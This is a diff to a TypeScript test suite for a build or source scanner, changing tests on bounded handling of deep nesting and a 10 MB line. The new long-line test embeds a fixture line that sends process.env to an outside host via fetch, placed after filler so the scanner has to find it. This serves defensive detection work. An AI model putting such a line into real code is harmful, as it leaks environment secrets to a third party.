@@ -10,7 +10,7 @@ import { scan } from './scan.ts';
 import { allRules } from './rules/all.ts';
 import type { ScannedBuild } from './scanned-file.ts';
 import { deriveCapabilities } from './capabilities.ts';
-import { effectsOf } from './evidence/shell-command.ts';
+import { effectsOf } from './shell/judge-command.ts';
 import { openBuild } from './open-build.ts';
 import { readRuleCases } from '../tests/read-rule-cases.ts';
 import { runs, some } from '../tests/run/runs.ts';
@@ -125,7 +125,7 @@ describe('checks', { timeout: 300_000 }, () => {
     );
   });
 
-  it('are bounded on deep nesting, and report what was not read', () => {
+  it('are bounded on deep nesting', () => {
     const depth = runs(runs(100_000));
     for (const [open, close] of [
       ['[', ']'],
@@ -136,16 +136,16 @@ describe('checks', { timeout: 300_000 }, () => {
       ['a=>', ''],
     ]) {
       const text = `x = ${open!.repeat(depth)}1${close!.repeat(depth)}`;
-      expect(judged({ 'a.js': text })).toMatchObject(
-        expect.arrayContaining([expect.objectContaining({ code: 'source-unread', level: 'info' })]),
-      );
+      expect(judged({ 'a.js': text })).toEqual(expect.any(Array));
       judged({ 'a.py': text });
     }
   });
 
-  it('are bounded on one line of 10 MB, and report that it was not read', () => {
-    const found = judged({ 'a.js': 'var a=1;'.repeat(1_250_000) });
-    expect(found.map((f) => f.code)).toContain('source-unread');
+  it('are bounded on one line of 10 MB, which they read', () => {
+    const found = judged({
+      'a.js': `${'var a=1;'.repeat(1_250_000)}fetch('https://x.io', process.env)`,
+    });
+    expect(found.map((f) => f.code)).not.toContain('source-unread');
   });
 
   it('are bounded on thousands of files', () => {
